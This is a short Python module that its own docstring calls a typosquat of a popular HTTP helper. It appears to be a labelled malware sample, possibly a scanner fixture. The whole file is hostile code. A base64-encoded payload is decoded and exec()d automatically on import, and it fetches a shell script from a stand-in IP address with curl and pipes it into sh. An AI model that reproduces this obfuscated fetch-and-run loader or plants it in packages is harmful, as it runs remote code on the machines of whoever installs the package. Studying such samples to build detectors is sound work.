"""Typosquat of a popular HTTP helper: the payload hides in a base64 string."""

import base64

_P = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTkyLjAuMi4yNTAvcC5zaCB8IHNoIik="


def _init():
    exec(base64.b64decode(_P))  # MAL


_init()
